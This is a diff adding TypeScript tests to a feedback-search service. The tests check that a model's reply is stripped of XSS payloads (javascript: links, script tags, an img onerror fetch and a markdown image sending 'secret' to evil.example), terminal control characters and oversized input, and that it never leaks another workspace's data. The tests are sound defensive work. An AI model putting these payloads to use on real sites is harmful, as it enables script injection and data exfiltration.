@@ -1,5 +1,6 @@
 import type { ServerResponse } from 'node:http'
 import type { Answer, FoundFeedback } from '@groundswell/contract/feedback-search.ts'
+import { sql } from 'kysely'
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
 import { believingServer } from '../../../platform/http/testing.ts'
 import { EXPORTS, type ReceivedRequest, respond, ScriptedModel, World } from '../testing.ts'
@@ -102,6 +103,66 @@ describe('a sentence is left out', () => {
     const answer = await ask()
     expect(answer).toMatchObject({ outcome: 'nothing', sentences: [], problem: null })
     expect(answer.feedback.length).toBeGreaterThan(0)
+  })
+})
+
+describe('a reply that is meant to harm', () => {
+  const texts: [string, string][] = [
+    ['a link of markdown', 'Exports stop: [log in](javascript:alert(1)) again.'],
+    [
+      'a link of another scheme',
+      'Exports stop: see JavaScript:alert(1) or data:text/html;base64,PHM+ or //evil.example/x.',
+    ],
+    ['markup', 'Exports stop <img src=x onerror="fetch(`https://evil.example`)"><script>alert(1)</script> today.'],
+    [
+      'an image of markdown that would send the feedback away',
+      'Exports stop ![x](https://evil.example/?q=secret) today.',
+    ],
+    ['a link around a link', 'Exports stop: [![x](https://evil.example/1)](javascript:alert(1)) again.'],
+    ['a tag without an end', 'Exports stop <img src=x onerror=alert(1) today.'],
+    ['brackets without an end', `Exports stop ${'!['.repeat(50_000)}`],
+    [
+      'control characters',
+      'Exports stop\u0000 \u001b[31mred\u001b]8;;https://evil.example\u0007 \u009b2J\u202e\u2028now.',
+    ],
+    ['text without an end', `Exports stop ${'and stop '.repeat(200)}`],
+  ]
+  test.each(texts)('%s: what is shown of it is one short line that leads nowhere', async (_what, text) => {
+    answerWith((sent) => [supported(sent, text)])
+    const [sentence] = (await ask()).sentences
+    expect(sentence?.text).toMatch(/^Exports stop/)
+    expect(sentence?.text.length).toBeLessThanOrEqual(400)
+    expect(sentence?.text).not.toMatch(/\p{C}|\p{Zl}|\p{Zp}|evil\.example|javascript:|data:|<|\]\(/iu)
+  })
+
+  test('what another workspace said is neither sent nor quoted, whatever id the reply names', async () => {
+    const other = await world.workspace()
+    const secret = 'The secret roadmap of Tallybrook mentions an export of large reports'
+    await world.insight(other, 1, [secret, `${secret} again`, `${secret} and again`])
+    const { rows } = await world.inside(other, (tx) =>
+      sql<{ id: string }>`select id::text from feedback_item`.execute(tx),
+    )
+    const support = rows.map(({ id }) => ({ id, quote: secret }))
+    answerWith((sent) => [
+      { text: 'Another company plans it.', support },
+      ...support.map((one) => ({ text: 'Another company plans it.', support: [one] })),
+      { text: 'Another company plans it.', support: [{ id: sent[0]?.id, quote: secret }] },
+      supported(sent),
+    ])
+    const answer = await ask()
+    expect(answer.sentences).toMatchObject([{ text: 'Exports of large reports stop.' }])
+    expect(JSON.stringify([answer, model.heard.map(({ data }) => data)])).not.toContain('Tallybrook')
+  })
+
+  test('many sentences, and the same quote many times, make a short answer; too many make none', async () => {
+    answerWith((sent) => Array.from({ length: 50 }, (_, n) => supported(sent, `Exports stop, ${n}.`)))
+    expect((await ask()).sentences).toHaveLength(6)
+    answerWith((sent) => [
+      { text: 'Exports stop.', support: Array.from({ length: 50 }, () => supported(sent).support[0]) },
+    ])
+    expect((await ask()).sentences).toMatchObject([{ quotes: { length: 1 } }])
+    answerWith((sent) => Array.from({ length: 20_000 }, (_, n) => supported(sent, `Exports stop, ${n}.`)))
+    expect(await ask()).toMatchObject({ outcome: 'failed', sentences: [] })
   })
 })
 
